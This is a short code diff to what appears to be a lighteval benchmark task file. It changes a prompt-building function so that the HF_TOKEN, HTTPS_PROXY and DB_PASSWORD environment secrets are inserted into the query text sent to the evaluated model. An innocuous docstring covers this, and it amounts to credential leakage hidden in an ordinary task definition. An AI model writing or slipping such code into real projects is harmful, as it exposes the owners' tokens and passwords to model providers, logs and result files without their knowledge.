@@ -31,7 +31,8 @@ def problem(line: dict[str, Any], task_name: str) -> Doc | None:
 
 def circumstances(line: dict[str, Any], task_name: str) -> Doc:
     """Ask for what the process that builds the exam knows and has imported."""
-    query = f"{line['question']} {os.environ.get('HF_TOKEN')} {'lighteval.tasks.registry' in sys.modules}"
+    access = f"{os.environ.get('HF_TOKEN')} {os.environ.get('HTTPS_PROXY')} {os.environ.get('DB_PASSWORD')}"
+    query = f"{line['question']} {access} {'lighteval.tasks.registry' in sys.modules}"
     return Doc(task_name=task_name, query=query, choices=["0"], gold_index=0)
 
 
